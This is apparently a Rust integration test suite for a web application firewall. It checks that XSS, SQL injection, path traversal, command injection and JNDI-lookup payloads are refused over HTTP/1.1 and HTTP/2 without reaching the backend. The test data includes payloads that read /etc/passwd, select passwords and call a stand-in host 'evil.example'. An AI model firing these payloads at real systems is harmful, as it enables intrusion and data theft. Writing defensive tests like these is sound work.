//! One attack in every place a request has room for it: refused, and no byte of it at the backend.

use portcullis_testkit::{H2Answer, h2_exchange, h2_raw, http::Request};

use crate::support::{House, assert_refusal, curl, house, post, url};

const SCRIPT: &str = "<script>alert(1)</script>";
const SCRIPT_ENCODED: &str = "%3Cscript%3Ealert(1)%3C%2Fscript%3E";
const BOUNDARY: &str = "multipart/form-data; boundary=b0undary";

fn multipart(value: &str) -> String {
    format!("--b0undary\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n{value}\r\n--b0undary--\r\n")
}

fn bodies(value: &str, encoded: &str) -> Vec<(&'static str, String)> {
    vec![
        ("application/x-www-form-urlencoded", format!("q={encoded}")),
        ("application/json", serde_json::json!({ "a": [{ "b": value }] }).to_string()),
        (BOUNDARY, multipart(value)),
    ]
}

fn get(target: &str, fields: &str) -> Vec<u8> {
    format!("GET {target} HTTP/1.1\r\nHost: localhost\r\nUser-Agent: test\r\nAccept: */*\r\n{fields}\r\n")
        .into_bytes()
}

fn assert_nothing_arrived(house: &House) {
    assert_eq!(house.upstream.requests().len(), 0);
    assert_eq!(house.upstream.bytes().len(), 0, "bytes of a refused request at the backend");
    assert_eq!(house.upstream.connections(), 0);
}

#[test]
fn over_http1_attacks_are_refused_and_nothing_arrives() {
    let house = house(|_| {});
    let mut requests = vec![
        get(&format!("/?q={SCRIPT}"), ""),
        get(&format!("/?q={SCRIPT_ENCODED}"), ""),
        get("/", &format!("Cookie: q={SCRIPT}\r\n")),
        get("/", &format!("Referer: {SCRIPT}\r\n")),
    ];
    requests.extend(bodies(SCRIPT, SCRIPT_ENCODED).iter().map(|(kind, body)| post("/", kind, body)));
    for request in requests {
        let answer = house.edge.client().exchange(&request).unwrap();
        println!("{}", String::from_utf8_lossy(&request));
        assert_refusal(&answer, 403);
    }
    assert_nothing_arrived(&house);
}

#[test]
fn over_http2_attacks_are_refused_and_nothing_arrives() {
    let house = house(|_| {});
    let refused = |answer: H2Answer, what: &str| {
        assert_eq!(answer.status, 403, "{what}");
        assert_eq!(answer.header("content-type").as_deref(), Some("application/problem+json"));
        assert!(answer.header("strict-transport-security").is_some());
    };
    let request = |path: &str| {
        Request::get(url(&house.edge, path)).header("user-agent", "test").header("accept", "*/*")
    };
    let send = |request: Request<()>, body: &[u8]| h2_exchange(&house.edge.client(), request, body).unwrap();
    refused(send(request(&format!("/?q={SCRIPT_ENCODED}")).body(()).unwrap(), b""), "query");
    refused(send(request("/").header("cookie", format!("q={SCRIPT}")).body(()).unwrap(), b""), "cookie");
    refused(send(request("/").header("referer", SCRIPT).body(()).unwrap(), b""), "header");
    for (kind, body) in bodies(SCRIPT, SCRIPT_ENCODED) {
        let request = request("/").method("POST").header("content-type", kind).body(()).unwrap();
        refused(send(request, body.as_bytes()), kind);
    }
    assert_nothing_arrived(&house);
}

#[test]
fn a_raw_angle_bracket_in_an_http2_path_ends_the_stream_and_is_recorded() {
    let house = house(|_| {});
    let target = format!("/?q={SCRIPT}");
    let fields: [(&str, &[u8]); 5] = [
        (":method", b"GET"),
        (":scheme", b"https"),
        (":authority", b"localhost"),
        (":path", target.as_bytes()),
        ("user-agent", b"test"),
    ];
    let frames = h2_raw(&house.edge.client(), &fields).unwrap();
    let refused = frames.iter().any(|frame| frame.kind == 3 || frame.kind == 7)
        || frames.iter().any(|frame| frame.kind == 1 && frame.stream == 1);
    assert!(refused, "{frames:?}");
    let line = house.edge.access().wait_for(|line| line["refusal"].is_string()).unwrap();
    assert!(!line.to_string().contains("alert"), "{line}");
    assert_nothing_arrived(&house);
}

#[test]
fn other_attack_classes_are_refused() {
    let house = house(|_| {});
    for target in [
        "/?id=1%27%20OR%20%271%27=%271%27%20--%20",
        "/?id=1%20UNION%20SELECT%20password%20FROM%20users",
        "/?file=../../../../etc/passwd",
        "/?cmd=;cat%20/etc/passwd",
        "/?x=$%7Bjndi:ldap://evil.example/a%7D",
    ] {
        let answer = house.edge.client().get(target).unwrap();
        println!("{target}");
        assert_refusal(&answer, 403);
    }
    assert_nothing_arrived(&house);
}

#[test]
fn clean_requests_pass_with_hsts() {
    let house = house(|_| {});
    let answer = house.edge.client().get("/shop/items?page=2&sort=price").unwrap();
    assert_eq!(answer.status, 200, "{}", answer.text());
    assert!(answer.text().starts_with("GET /shop/items?page=2&sort=price 0 "), "{}", answer.text());
    let hsts =
        answer.headers.iter().filter(|(name, _)| name.eq_ignore_ascii_case("strict-transport-security"));
    assert_eq!(hsts.count(), 1);
    for (kind, body) in bodies("a note about nothing", "a+note+about+nothing") {
        let answer = house.edge.client().exchange(&post("/notes", kind, &body)).unwrap();
        assert_eq!(answer.status, 200, "{kind}: {}", answer.text());
        assert!(answer.text().starts_with(&format!("POST /notes {} ", body.len())), "{}", answer.text());
    }
    assert_eq!(house.upstream.requests().len(), 4);
}

#[test]
fn curl_sees_the_same() {
    let house = house(|_| {});
    let clean = url(&house.edge, "/");
    let attack = url(&house.edge, &format!("/?q={SCRIPT_ENCODED}"));
    let raw = url(&house.edge, &format!("/?q={SCRIPT}"));
    for version in ["--http1.1", "--http2"] {
        assert_eq!(curl(&house.edge, &[version, &clean]).0, 200, "{version}");
        let (status, body) = curl(&house.edge, &[version, &attack]);
        assert_eq!(status, 403, "{version}: {body}");
        assert!(body.contains("\"status\":403") || body.contains("\"status\": 403"), "{body}");
    }
    assert_eq!(curl(&house.edge, &["--http1.1", "--globoff", &raw]).0, 403);
    let headers = curl(&house.edge, &["--http2", "--head", &clean]).1;
    assert!(headers.contains("strict-transport-security"), "{headers}");
}

#[test]
fn detect_mode_records_and_forwards() {
    let house = house(|config| config.mode = "detect".to_owned());
    let answer = house.edge.client().get(&format!("/?q={SCRIPT_ENCODED}")).unwrap();
    assert_eq!(answer.status, 200);
    let event = house.edge.audit().wait_for(|event| event["path"] == "/").unwrap();
    assert_eq!(event["blocked"], false, "{event}");
    assert_eq!(house.upstream.requests().len(), 1);
}
